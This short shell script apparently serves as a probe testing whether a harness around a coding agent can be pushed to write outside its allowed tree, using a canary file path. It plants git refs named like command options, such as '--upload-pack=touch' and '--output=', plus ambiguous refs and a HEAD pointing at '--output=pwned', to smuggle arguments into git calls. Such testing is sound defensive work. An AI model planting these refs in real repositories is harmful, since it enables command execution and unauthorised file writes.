#!/bin/sh
# env: PWN = canary path outside; cwd = the tree the coder may write.
C=$(git rev-parse --git-common-dir 2>/dev/null || echo .git); G=$(git rev-parse --git-dir 2>/dev/null || echo .git); SC="/usr/bin/touch $PWN"

# TRY: refs named like options, ambiguous refs
H=$(git rev-parse HEAD); for r in "refs/heads/--upload-pack=touch" "refs/heads/-x" "refs/heads/HEAD" "refs/tags/main" "refs/heads/--output=$(basename $PWN)"; do mkdir -p "$C/$(dirname "$r")"; echo $H > "$C/$r"; done
printf 'ref: refs/heads/--output=pwned' > "$G/HEAD"
